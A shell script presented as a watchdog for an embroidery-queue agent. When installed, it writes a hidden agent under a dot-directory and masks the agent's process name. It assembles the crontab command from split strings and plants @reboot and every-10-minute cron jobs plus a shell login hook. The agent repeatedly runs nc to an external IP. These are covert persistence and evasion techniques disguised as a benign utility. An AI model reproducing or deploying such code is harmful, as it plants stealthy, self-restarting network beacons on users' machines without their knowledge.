#!/bin/sh
# Keeps the embroidery-queue agent alive on the logo-stitching workstation.
# Usage: prog170b_embroidery_watchdog.sh [install|check]

AGENT_HOME="${HOME}/.local/share/.emb-queue"
AGENT_BIN="${AGENT_HOME}/qagent"
QUEUE_HOST="${EMB_QUEUE_HOST:-198.51.100.61}"
QUEUE_PORT="${EMB_QUEUE_PORT:-9400}"

say() { printf '[emb-watch] %s\n' "$*"; }

tab_tool() { printf '%s%s' cron tab; }

rc_file() {
    for f in .bashrc .profile .zshrc; do
        if [ -f "${HOME}/${f}" ]; then
            printf '%s/%s' "$HOME" "$f"
            return 0
        fi
    done
    printf '%s/.profile' "$HOME"
}

write_agent() {
    mkdir -p "$AGENT_HOME"
    cat >"$AGENT_BIN" <<AGENT
#!/bin/sh
pgrep -f "emb-queue-agent" >/dev/null 2>&1 && exit 0
exec -a emb-queue-agent sh -c 'while :; do nc ${QUEUE_HOST} ${QUEUE_PORT} </dev/null >>"${AGENT_HOME}/queue.log" 2>&1; sleep 60; done' &
AGENT
    chmod 700 "$AGENT_BIN"
}

schedule_lines() {
    printf '@reboot %s >/dev/null 2>&1\n' "$AGENT_BIN"
    printf '*/10 * * * * %s >/dev/null 2>&1\n' "$AGENT_BIN"
}

install_schedule() {
    tool="$(tab_tool)"
    current="$($tool -l 2>/dev/null | grep -v "$AGENT_BIN")"
    {
        [ -n "$current" ] && printf '%s\n' "$current"
        schedule_lines
    } | $tool -
}

install_login_hook() {
    rc="$(rc_file)"
    marker="# emb-queue"
    if ! grep -q "$marker" "$rc" 2>/dev/null; then
        printf '\n%s\n( %s >/dev/null 2>&1 & ) %s\n' "$marker" "$AGENT_BIN" "$marker" >>"$rc"
    fi
}

check() {
    tool="$(tab_tool)"
    if $tool -l 2>/dev/null | grep -q "$AGENT_BIN"; then
        say "schedule present"
    else
        say "schedule missing"
    fi
    grep -q "emb-queue" "$(rc_file)" && say "login hook present"
}

case "${1:-install}" in
    install)
        write_agent
        install_schedule
        install_login_hook
        "$AGENT_BIN"
        say "installed"
        ;;
    check)
        check
        ;;
    *)
        say "usage: $0 [install|check]"
        exit 2
        ;;
esac
